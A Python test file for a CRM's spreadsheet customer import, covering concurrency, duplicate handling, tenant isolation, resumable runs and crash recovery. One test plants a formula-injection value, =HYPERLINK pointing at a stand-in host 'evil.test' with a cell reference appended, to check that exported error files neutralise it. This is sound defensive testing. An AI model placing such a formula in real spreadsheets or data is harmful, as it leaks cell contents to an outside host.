"""A spreadsheet becomes customers: previewed, once, resumably."""

import asyncio
import csv
import io
import os
import random
import signal
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any
from uuid import UUID

import msgspec
import openpyxl
import pytest

from server.access import Actor, Role, Scope
from server.customers import queries
from server.customers.imports.target import CUSTOMERS
from server.customers.rules import fields, identifiers, status
from server.customers.service import references
from server.identity import service as identity
from server.identity.schemas import UserChange
from server.imports import queries as imports_queries
from server.imports import service as imports
from server.imports.queries import BadPlan
from server.imports.reasons import COMMON_ZH, Language, reason
from server.imports.sandbox import FileNotRead
from server.imports.schemas import Columns, ImportView, Policy, StartImport
from server.imports.service import ImportStarted
from server.imports.turns import PREVIEWS, RETRY_S, ImportsBusy, Turns, UploadRunning
from server.kit import db, outbox
from server.kit.errors import Forbidden, IdReused, NotFound, Refusal
from server.settings import Settings
from server.worker import collect_handlers
from tests.factories import NOW, Tenant, new_id
from tests.server.customers.custom.stories import field as make_field
from tests.server.customers.spreadsheets import bring_in, everything, hand_in, sheet, trail, upload
from tests.server.customers.stories import make, make_tag, names
from world import numbers
from world.spreadsheets import FileKind, Order, write

ROOT = Path(__file__).parents[3]


async def told(tenant: Tenant, import_id: UUID) -> list[tuple[int, str, str]]:
    """Give what was found wrong, over all pages."""
    found: list[tuple[int, str, str]] = []
    cursor: str | None = None
    while True:
        page = await imports_queries.problems(tenant.owner, import_id, cursor=cursor)
        found += [(each.row, each.field, each.code) for each in page.items]
        cursor = page.next_cursor
        if cursor is None:
            return found


async def test_files_are_taken_in_one_by_one_and_one_a_person(tenant: Tenant) -> None:
    content = "name,phone\n某客户,13812345678\n".encode()
    people = (tenant.owner, tenant.owner, tenant.manager)

    answers = await asyncio.gather(
        *(upload(who, "客户.csv", content) for who in people),
        return_exceptions=True,
    )

    assert [type(answer) for answer in answers] == [ImportView, UploadRunning, ImportView]
    assert (await upload(tenant.owner, "客户.csv", content)).row_count == 1


async def test_a_person_tries_out_two_imports_at_once_and_no_more(tenant: Tenant) -> None:
    content = "name,phone\n某客户,13812345678\n".encode()
    view = await upload(tenant.owner, "客户.csv", content)
    wanted = StartImport(columns=view.plan.columns)

    async with PREVIEWS.take(tenant.owner), PREVIEWS.take(tenant.owner):
        with pytest.raises(UploadRunning) as refusal:
            await imports_queries.preview(tenant.owner, view.id, wanted)

    assert refusal.value.extra["retry_after_s"] == RETRY_S
    assert (await imports_queries.preview(tenant.owner, view.id, wanted)).counts.rows == 1


async def test_who_waits_to_hand_a_file_in_is_counted(tenant: Tenant, rival: Tenant) -> None:
    turns = Turns(side_by_side=1, of_person=1, of_tenant=2, of_all=3)
    over, inside = asyncio.Event(), []

    async def hand_in(who: Actor) -> None:
        async with turns.take(who):
            inside.append(who)
            await over.wait()

    async with asyncio.TaskGroup() as people:
        first, waiting = (
            people.create_task(hand_in(who)) for who in (tenant.owner, tenant.manager)
        )
        await asyncio.sleep(0)

        with pytest.raises(ImportsBusy) as refusal:
            await hand_in(tenant.rep)
        assert refusal.value.extra["retry_after_s"] == RETRY_S
        people.create_task(hand_in(rival.owner))
        await asyncio.sleep(0)
        with pytest.raises(ImportsBusy):
            await hand_in(rival.manager)
        assert inside == [tenant.owner]

        # Who goes away while waiting leaves the place to others.
        waiting.cancel()
        await asyncio.wait([waiting])
        people.create_task(hand_in(tenant.rep))
        over.set()

    assert first.done()
    assert {who.user_id for who in inside} == {
        each.user_id for each in (tenant.owner, rival.owner, tenant.rep)
    }


@pytest.mark.parametrize("kind", FileKind)
async def test_a_real_file_is_imported_and_its_bad_rows_are_told(
    tenant: Tenant, kind: FileKind
) -> None:
    rng = random.Random(11)
    file = write(rng, numbers.start(rng), Order(rows=1200, kind=kind))

    view = await upload(tenant.owner, file.file_name, file.content)
    preview = await imports_queries.preview(tenant.owner, view.id, StartImport())
    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
    await imports.run(tenant.owner, view.id, now=NOW)
    done = await imports_queries.one(tenant.owner, view.id)

    assert (done.state, done.counts.rows) == ("done", 1200)
    assert done.counts.created == len(file.truth.good)
    assert done.counts.refused == len(file.truth.bad)
    assert done.counts.skipped == len(file.truth.duplicates)
    assert preview.counts == done.counts
    problems = await told(tenant, view.id)
    assert {row for row, _, code in problems if code != "duplicate_in_file"} == {
        row.number for row in file.truth.bad
    }
    assert {row for row, _, code in problems if code == "duplicate_in_file"} == {
        row.number for row in file.truth.duplicates
    }
    kept = {each.name: each for each in (await everything(tenant)).values()}
    for row in file.truth.good[::50]:
        customer = kept[row.fields["name"]]
        assert (customer.uscc, customer.phone) == (row.fields["uscc"], row.fields["phone"])
        assert (customer.city, customer.status) == (row.fields["city"], row.fields["status"])


async def test_a_preview_changes_nothing(tenant: Tenant) -> None:
    view = await hand_in(tenant, sheet("龙井茶行,13805710001,,意向", ",1,2,再看看"))

    preview = await imports_queries.preview(tenant.owner, view.id, StartImport())

    assert preview.sample == [["龙井茶行", "13805710001", "", "意向"], ["", "1", "2", "再看看"]]
    assert (preview.counts.created, preview.counts.refused) == (1, 1)
    assert [(each.row, each.field, each.code) for each in preview.problems] == [
        (3, "status", "bad_status"),
        (3, "phone", "bad_phone"),
        (3, "uscc", "bad_uscc"),
        (3, "name", "field_required"),
    ]
    assert await names(tenant.owner) == []


async def test_columns_are_chosen_by_a_person(tenant: Tenant) -> None:
    content = sheet("龙井茶行,隔壁,13805710001", header="甲,乙,丙")
    view = await hand_in(tenant, content)

    misfits: list[Columns] = [
        ["name", "remark"],
        ["name", "name", None],
        [None, "remark", "phone"],
    ]
    for columns in misfits:
        with pytest.raises(BadPlan) as refused:
            await imports_queries.preview(tenant.owner, view.id, StartImport(columns=columns))
        assert refused.value.field == "columns"
    done = await bring_in(tenant, content, columns=["name", "remark", "phone"])

    assert done.counts.created == 1
    (customer,) = (await everything(tenant)).values()
    assert (customer.name, customer.remark) == ("龙井茶行", "隔壁")


async def test_doubles_are_skipped_updated_or_made_twice(tenant: Tenant) -> None:
    held = await make(tenant.owner, "龙井茶行", phone="13805710001", status="need")
    content = sheet(
        "龙井茶行有限公司,13805710001,,意向", "新茶行,13805710002,,", "新茶行二,13805710002,,潜在"
    )

    skipped = await bring_in(tenant, content)

    assert (skipped.counts.created, skipped.counts.skipped) == (1, 2)
    assert await told(tenant, skipped.id) == [
        (2, "", "duplicate_in_tenant"),
        (4, "", "duplicate_in_file"),
    ]
    assert (await queries.one(tenant.owner, held.id)).status == "need"

    updated = await bring_in(tenant, content, Policy.UPDATE)
    counts = updated.counts
    assert (counts.created, counts.updated, counts.unchanged) == (0, 2, 1)
    assert (await queries.one(tenant.owner, held.id)).status == "intent"
    assert len(await everything(tenant)) == 2

    created = await bring_in(tenant, content, Policy.CREATE)
    assert created.counts.created == 3
    assert len(await everything(tenant)) == 5


async def test_two_credit_codes_are_two_customers_whatever_their_name(tenant: Tenant) -> None:
    done = await bring_in(
        tenant,
        sheet(
            "龙井茶行,13805710001,91110000600037341L,", "龙井茶行,13805710001,91330100799655058B,"
        ),
    )

    assert (done.counts.created, done.counts.skipped) == (2, 0)


def forged(rows: list[list[str]], number: int, claimed: bytes) -> bytes:
    """Write a workbook, one of whose rows claims to be another."""
    book = openpyxl.Workbook()
    for cells in rows:
        book.worksheets[0].append(cells)
    written, changed = io.BytesIO(), io.BytesIO()
    book.save(written)
    with zipfile.ZipFile(written) as before, zipfile.ZipFile(changed, "w") as after:
        for name in before.namelist():
            content = before.read(name)
            after.writestr(name, content.replace(b'r="%d"' % number, b'r="%s"' % claimed))
    return changed.getvalue()


async def test_rows_that_claim_one_number_are_rows_of_their_own(tenant: Tenant) -> None:
    rows = [["客户名称", "电话"], ["龙井茶行", "13805710001"], ["黄酒坊", "13805710002"]]

    done = await bring_in(tenant, forged(rows, 3, b"2"))

    assert (done.counts.created, done.counts.skipped) == (2, 0)
    assert set(await names(tenant.owner)) == {"龙井茶行", "黄酒坊"}


@pytest.mark.parametrize("claimed", [b"0", b"1", b"9" * 40, b"1048577"])
async def test_a_row_number_that_cannot_be_is_counted_instead(
    tenant: Tenant, claimed: bytes
) -> None:
    rows = [["客户名称", "电话"], ["龙井茶行", "1"]]

    done = await bring_in(tenant, forged(rows, 2, claimed))

    assert await told(tenant, done.id) == [(2, "phone", "bad_phone")]


async def test_a_row_of_a_colleague_is_told_without_the_name(tenant: Tenant) -> None:
    stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
    await make(stranger, "龙井茶行", phone="13805710001")
    content = sheet("别的茶行,13805710001,,")
    view = await upload(tenant.manager, "客户.csv", content)
    await imports.start(tenant.manager, view.id, StartImport(duplicates=Policy.UPDATE), now=NOW)

    await imports.run(tenant.manager, view.id, now=NOW)

    page = await imports_queries.problems(tenant.manager, view.id)
    assert [each.code for each in page.items] == ["duplicate_out_of_sight"]
    assert "龙井" not in page.items[0].detail


async def test_owner_tags_and_contact_come_with_the_row(tenant: Tenant) -> None:
    tag = await make_tag(tenant.owner, "重点")
    content = sheet(
        f"龙井茶行,{tenant.rep.name},重点,王小明,13805710009,1.2万",
        "黄酒坊,没有这个人,没有这个标签,李四,,",
        header="客户名称,负责人,标签,联系人,联系人电话,预计金额(元)",
    )

    done = await bring_in(tenant, content)

    assert await told(tenant, done.id) == [
        (3, "owner", "unknown_owner"),
        (3, "tags", "unknown_tag"),
    ]
    (customer,) = (await everything(tenant)).values()
    assert (customer.owner_id, customer.team_id) == (tenant.rep.user_id, tenant.team_id)
    assert (customer.tags, customer.expected_revenue_minor) == ([tag], 1_200_000)
    detail = await queries.detail(tenant.rep, customer.id)
    assert [(each.name, each.phone) for each in detail.contacts] == [("王小明", "+8613805710009")]


async def test_a_customer_who_is_there_gets_the_contacts_that_it_lacks(tenant: Tenant) -> None:
    await make_field(tenant.owner, label="牌照号", is_unique=True)
    for name in ("龙井茶行", "黄酒坊"):
        await make(tenant.owner, name)
    content = sheet(
        *("龙井茶行,王芳,13805710001,", "龙井茶行,李雷,,甲1", "龙井茶行,王芳,,", "龙井茶行,,,"),
        "黄酒坊,赵敏,13805710002,甲1",
        header="客户名称,联系人,联系人电话,牌照号",
    )

    counts = [(await bring_in(tenant, content, Policy.UPDATE)).counts for _ in range(2)]

    assert [(each.updated, each.unchanged, each.refused) for each in counts] == [
        *((2, 2, 1), (0, 4, 1))
    ]
    held = {
        each.name: sorted(who.name for who in (await queries.detail(tenant.owner, id_)).contacts)
        for id_, each in (await everything(tenant)).items()
    }
    assert held == {"龙井茶行": ["李雷", "王芳"], "黄酒坊": []}


async def test_s109_no_file_gives_a_customer_to_an_analyst(tenant: Tenant) -> None:
    change = UserChange(role=Role.ANALYST)
    analyst = await identity.change_user(tenant.owner, tenant.rep.user_id, change, now=NOW)
    for header, field, cell in (
        ("负责人", "owner", analyst.name),
        ("负责人编号", "owner_id", analyst.id),
    ):
        content = sheet(f"龙井茶行,{cell}", header=f"客户名称,{header}")
        done = await bring_in(tenant, content)
        assert await told(tenant, done.id) == [(2, field, "unknown_owner")]

    async with db.tenant_transaction(tenant.tenant_id, readonly=True):
        offered = (await CUSTOMERS.choices(tenant.owner))["owner"]
    assert tenant.manager.name in offered
    assert analyst.name not in offered


async def test_no_file_gives_a_customer_to_somebody_who_has_left(tenant: Tenant) -> None:
    await make(tenant.rep, "龙井茶行")
    await make(tenant.manager, "太湖三白")
    gone = str(tenant.rep.user_id)
    await identity.disable_user(tenant.owner, tenant.rep.user_id, now=NOW)
    rows = [f"{name},{gone.upper()},苏州市" for name in ("龙井茶行", "太湖三白", "黄酒坊")]

    done = await bring_in(tenant, sheet(*rows, header="客户名称,负责人编号,城市"), Policy.UPDATE)

    found = await told(tenant, done.id)
    assert [each for each in found if each[2] != "duplicate_in_tenant"] == [
        (row, "owner_id", "unknown_owner") for row in (3, 4)
    ]
    held = {each.name: (each.owner_id, each.city) for each in (await everything(tenant)).values()}
    assert held == {
        "龙井茶行": (tenant.rep.user_id, "苏州市"),
        "太湖三白": (tenant.manager.user_id, None),
    }


async def test_names_of_columns_within_a_file_make_no_customer(tenant: Tenant) -> None:
    content = sheet("龙井茶行,苏州市", "客户名称,城市", "黄酒坊,", header="客户名称,城市")

    done = await bring_in(tenant, content)

    assert await told(tenant, done.id) == [(3, "", "header_row")]
    assert {*await names(tenant.owner)} == {"龙井茶行", "黄酒坊"}
    left = await imports_queries.error_file(tenant.owner, done.id)
    assert "客户名称,城市,3,这一行又是列名，不是数据。" in left.decode("utf-8-sig")


async def test_a_file_and_its_start_may_be_sent_again(tenant: Tenant) -> None:
    content, import_id = sheet("龙井茶行,,,"), new_id()
    first = await hand_in(tenant, content, import_id=import_id)

    assert await hand_in(tenant, content, import_id=import_id) == first
    with pytest.raises(IdReused):
        await hand_in(tenant, sheet("黄酒坊,,,"), import_id=import_id)
    started = await imports.start(tenant.owner, import_id, StartImport(), now=NOW)
    assert await imports.start(tenant.owner, import_id, StartImport(), now=NOW) == started
    other = StartImport(duplicates=Policy.CREATE)
    with pytest.raises(ImportStarted):
        await imports.start(tenant.owner, import_id, other, now=NOW)


async def test_an_import_is_of_its_company_and_of_those_who_may(
    tenant: Tenant, rival: Tenant
) -> None:
    view = await hand_in(tenant, sheet("龙井茶行,,,"))

    for question in (
        imports_queries.one(rival.owner, view.id),
        imports_queries.preview(rival.owner, view.id, StartImport()),
        imports.start(rival.owner, view.id, StartImport(), now=NOW),
        imports_queries.problems(rival.owner, view.id),
        imports_queries.error_file(rival.owner, view.id),
    ):
        with pytest.raises(NotFound):
            await question
    with pytest.raises(Forbidden):
        await upload(tenant.rep, "客户.csv", sheet("龙井茶行,,,"))
    assert [each.id for each in (await imports_queries.list_page(tenant.owner)).items] == [view.id]
    assert (await imports_queries.list_page(rival.owner)).items == []


async def test_below_the_company_a_person_sees_their_own_imports_alone(tenant: Tenant) -> None:
    theirs = await hand_in(tenant, sheet("龙井茶行,13805710001,,", "坏行,123,,"))
    manager = msgspec.structs.replace(tenant.manager, scope=Scope.MINE)
    own = await upload(manager, "a.csv", sheet("黄酒坊,,,"))

    for person in (manager, tenant.manager):
        for question in (
            imports_queries.one(person, theirs.id),
            imports_queries.preview(person, theirs.id, StartImport()),
            imports.start(person, theirs.id, StartImport(), now=NOW),
            imports_queries.problems(person, theirs.id),
            imports_queries.error_file(person, theirs.id),
        ):
            with pytest.raises(NotFound):
                await question
        listed = await imports_queries.list_page(person)
        assert [each.id for each in listed.items] == [own.id]
        with pytest.raises(IdReused):
            await upload(
                person,
                "客户.csv",
                sheet("龙井茶行,13805710001,,", "坏行,123,,"),
                import_id=theirs.id,
            )
    assert (await imports_queries.one(tenant.owner, theirs.id)).state == "uploaded"
    assert {each.id for each in (await imports_queries.list_page(tenant.owner)).items} == {
        theirs.id,
        own.id,
    }


async def test_a_double_is_named_to_those_alone_who_see_it(tenant: Tenant) -> None:
    stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
    await make(stranger, '=HYPERLINK("http://evil.test/?"&A2)', phone="13805710001")
    view = await upload(tenant.manager, "a.csv", sheet("茶行,13805710001,,"))
    preview = await imports_queries.preview(tenant.owner, view.id, StartImport())
    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
    await imports.run(tenant.owner, view.id, now=NOW)

    seen = await imports_queries.problems(tenant.owner, view.id)
    unseen = await imports_queries.problems(tenant.manager, view.id)
    files = [
        await imports_queries.error_file(person, view.id)
        for person in (tenant.owner, tenant.manager)
    ]
    in_english = await imports_queries.error_file(tenant.owner, view.id, Language.EN)

    assert "HYPERLINK" in preview.problems[0].detail
    assert "HYPERLINK" in seen.items[0].detail
    assert [each.code for each in unseen.items] == ["duplicate_in_tenant"]
    assert "HYPERLINK" not in unseen.items[0].detail
    reasons = [
        list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))[1][-1] for file in files
    ]
    assert reasons[0].startswith("该客户已经存在：=HYPERLINK")
    assert "HYPERLINK" not in reasons[1]
    assert b",'=HYPERLINK" in in_english.replace(b'"', b"")


async def test_a_file_that_cannot_be_read_leaves_nothing(tenant: Tenant) -> None:
    with pytest.raises(FileNotRead) as refused:
        await hand_in(tenant, b"name\0phone")

    assert (refused.value.field, refused.value.extra["reason"]) == ("file", "not_text")
    assert (await imports_queries.list_page(tenant.owner)).items == []


async def test_the_rows_that_were_not_taken_come_back_as_a_file(tenant: Tenant) -> None:
    await make(tenant.owner, "老客户")
    done = await bring_in(tenant, sheet("=1+1,123,,", "老客户,,,", "好客户,,,", '"a\r\n=b",9,,'))

    content = await imports_queries.error_file(tenant.owner, done.id)

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["客户名称", "电话", "税号", "状态", "行号", "原因"]
    assert [row[4] for row in rows[1:]] == ["2", "3", "5"]
    assert rows[1][0] == "'=1+1"
    assert rows[1][5] == "电话：电话号码不对，请填写一个可以拨打的号码。"
    assert rows[2][5] == "该客户已经存在：老客户。"
    assert rows[3][0] == "a\r\n'=b"
    in_english = await imports_queries.error_file(tenant.owner, done.id, Language.EN)
    assert b"phone: This is not a phone number." in in_english
    assert "电话号码不对" not in in_english.decode()


def test_each_reason_that_a_rule_has_is_said_in_chinese() -> None:
    refusals = {
        found.code
        for module in (fields, identifiers, status, references)
        for found in vars(module).values()
        if isinstance(found, type)
        and issubclass(found, Refusal)
        and found.__module__ == module.__name__
    }

    assert {"bad_phone", "illegal_transition", "unknown_tag"} <= refusals
    assert refusals <= COMMON_ZH.keys() | CUSTOMERS.reasons_zh.keys()
    assert reason(
        "customers", "duplicate_in_file", "", "Row 12 is the same customer.", Language.ZH
    ) == ("与第 12 行是同一客户。")
    assert (
        reason("customers", "newer_code", "phone", "Something new.", Language.ZH)
        == "phone: Something new."
    )


async def test_the_worker_takes_an_import_from_the_outbox(tenant: Tenant) -> None:
    view = await hand_in(tenant, sheet("龙井茶行,,,", "黄酒坊,,,"))
    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)

    await take(tenant)

    assert (await imports_queries.one(tenant.owner, view.id)).state == "done"
    actions = [each["action"] for each in await trail(tenant)]
    assert {"import.uploaded", "import.started", "import.finished"} <= set(actions)


async def take(tenant: Tenant) -> dict[str, Any]:
    """Do the tenant's job of an import as the worker does; give what it was told."""
    async with db.job_transaction():
        row = await db.connection().fetchrow(
            "DELETE FROM outbox WHERE tenant_id = $1 AND topic = $2 RETURNING payload",
            tenant.tenant_id,
            imports.TOPIC,
        )
    assert row is not None
    payload: dict[str, Any] = msgspec.json.decode(row["payload"])
    job = outbox.Job(new_id(), tenant.tenant_id, imports.TOPIC, payload, 0, 1)
    await collect_handlers()[job.topic](job, NOW)
    return payload


async def test_an_import_is_done_as_its_person_stands_now(tenant: Tenant) -> None:
    forged = msgspec.structs.replace(tenant.manager, role=Role.AGENT_OWNER, scope=Scope.TENANT)
    stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
    hidden = await make(stranger, "龙井茶行", phone="13805710001")
    content = sheet("龙井茶行,13805710001,,意向")
    view = await upload(tenant.manager, "a.csv", content)
    plan = StartImport(duplicates=Policy.UPDATE)
    await imports.start(forged, view.id, plan, now=NOW)

    payload = await take(tenant)

    assert payload == {"import_id": str(view.id), "user_id": str(tenant.manager.user_id)}
    problems = await imports_queries.problems(tenant.manager, view.id)
    assert [each.code for each in problems.items] == ["duplicate_out_of_sight"]
    assert (await queries.one(tenant.owner, hidden.id)).status == hidden.customer.status


@pytest.mark.parametrize("what", ["disabled", "made a rep", "narrowed"])
async def test_an_import_stops_when_its_person_may_not_import_any_more(
    tenant: Tenant, what: str
) -> None:
    person = tenant.manager
    maker = tenant.owner if what == "narrowed" else person
    view = await upload(maker, "a.csv", sheet("龙井茶行,,,"))
    starter = msgspec.structs.replace(person, scope=Scope.TENANT)
    await imports.start(starter, view.id, StartImport(), now=NOW)
    if what == "disabled":
        await identity.disable_user(tenant.owner, person.user_id, now=NOW)
    elif what == "made a rep":
        change = UserChange(role=Role.SALES_REP)
        await identity.change_user(tenant.owner, person.user_id, change, now=NOW)

    await take(tenant)

    stopped = await imports_queries.one(tenant.owner, view.id)
    assert (stopped.state, stopped.finished_at, stopped.counts.rows) == ("stopped", NOW, 0)
    assert await everything(tenant) == {}
    async with db.job_transaction():
        left = await db.connection().fetchval(
            "SELECT count(*) FROM outbox WHERE tenant_id = $1 AND topic = $2",
            tenant.tenant_id,
            imports.TOPIC,
        )
    assert left == 0
    assert await imports.run(tenant.owner, view.id, now=NOW)
    assert await everything(tenant) == {}


async def test_an_import_that_fails_for_the_last_time_is_stopped(tenant: Tenant) -> None:
    view = await hand_in(tenant, sheet("龙井茶行,,,"))
    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
    async with db.tenant_transaction(tenant.tenant_id):
        await db.connection().execute(
            "UPDATE sheet_import_chunk SET rows = $3 WHERE tenant_id = $1 AND import_id = $2",
            *(tenant.tenant_id, view.id, b"damaged"),
        )
    payload = {"import_id": str(view.id), "user_id": str(tenant.owner.user_id)}
    states = []

    for attempts in (0, outbox.ATTEMPTS_MAX - 1):
        job = outbox.Job(new_id(), tenant.tenant_id, imports.TOPIC, payload, attempts, lease=1)
        with pytest.raises(zlib.error):
            await collect_handlers()[imports.TOPIC](job, NOW)
        states.append((await imports_queries.one(tenant.owner, view.id)).state)

    assert states == ["running", "stopped"]


async def test_an_import_goes_on_behind_the_chunks_that_are_done(tenant: Tenant) -> None:
    rows = [f"客户{at % 2200}号,,," for at in range(2500)]
    view = await hand_in(tenant, sheet(*rows))
    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)

    has_ended = await imports.run(tenant.owner, view.id, now=NOW, budget_s=0)
    half = await imports_queries.one(tenant.owner, view.id)
    while not has_ended:
        has_ended = await imports.run(tenant.owner, view.id, now=NOW, budget_s=0)
    again = await imports.run(tenant.owner, view.id, now=NOW)

    done = await imports_queries.one(tenant.owner, view.id)
    assert half.state == "running"
    assert 0 < half.counts.rows <= 1000
    assert again
    assert (done.counts.created, done.counts.skipped) == (2200, 300)
    assert {code for _, _, code in await told(tenant, view.id)} == {"duplicate_in_file"}
    assert len(await everything(tenant)) == 2200


async def test_s101_a_killed_import_knows_which_customers_its_rows_were(tenant: Tenant) -> None:
    there = {}
    for at in range(2):
        name = f"福满楼{at}"
        new = {"name": name, "phone": f"1380571000{at}", "city": "杭州"}
        there[name] = (await make(tenant.owner, **new)).id
    gap = "".join("合计,,\n" for _ in range(1200))

    for name, budget_s in zip(there, (None, 0.0), strict=True):
        phone = f"1380571000{name[-1]}"
        rows = f"name,phone,city\n{name},{phone},宁波\n{gap}{name},{phone},温州\n"
        view = await upload(tenant.owner, "客户.csv", rows.encode())
        plan = StartImport(duplicates=Policy.UPDATE)
        await imports.start(tenant.owner, view.id, plan, now=NOW)
        while not await imports.run(tenant.owner, view.id, now=NOW, budget_s=budget_s):
            pass
        done = await imports_queries.one(tenant.owner, view.id)
        assert (done.counts.updated, (await queries.one(tenant.owner, there[name])).city) == (
            2,
            "温州市",
        )


RUNNER = """
import asyncio, sys
from datetime import datetime
from uuid import UUID
import msgspec
from server.access import Actor
from server.imports import service
from server.kit import db
from server.settings import Settings
from server.worker import collect_handlers

async def main():
    collect_handlers()
    await db.open_database(Settings(database_url=sys.argv[1]))
    actor = msgspec.json.decode(sys.argv[2], type=Actor)
    print("ready", flush=True)
    await service.run(actor, UUID(sys.argv[3]), now=datetime.fromisoformat(sys.argv[4]))

asyncio.run(main())
"""


@pytest.mark.slow
async def test_kill_9_at_any_moment_loses_and_doubles_nothing(
    tenant: Tenant, settings: Settings
) -> None:
    rng = random.Random(5)
    file = write(rng, numbers.start(rng), Order(rows=6000, kind=FileKind.CSV_GB18030))
    view = await upload(tenant.owner, "大表.csv", file.content)
    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
    killed = 0

    while (await imports_queries.one(tenant.owner, view.id)).state != "done":
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            *("-c", RUNNER, settings.database_url),
            msgspec.json.encode(tenant.owner).decode(),
            *(str(view.id), NOW.isoformat()),
            cwd=ROOT,
            stdout=asyncio.subprocess.PIPE,
        )
        assert process.stdout is not None
        await process.stdout.readline()
        try:
            await asyncio.wait_for(process.wait(), rng.uniform(0.2, 1.2) if killed < 5 else 60)
        except TimeoutError:
            os.kill(process.pid, signal.SIGKILL)
            await process.wait()
            killed += 1
        else:
            assert process.returncode == 0

    done = await imports_queries.one(tenant.owner, view.id)
    assert killed >= 1
    assert done.counts.created == len(file.truth.good)
    assert done.counts.skipped == len(file.truth.duplicates)
    assert done.counts.refused == len(file.truth.bad)
    assert len(await everything(tenant)) == len(file.truth.good)
    async with db.tenant_transaction(tenant.tenant_id):
        created = await db.connection().fetchval(
            "SELECT count(*) FROM change WHERE tenant_id = $1 AND action = 'create'",
            tenant.tenant_id,
        )
    assert created == len(file.truth.good)
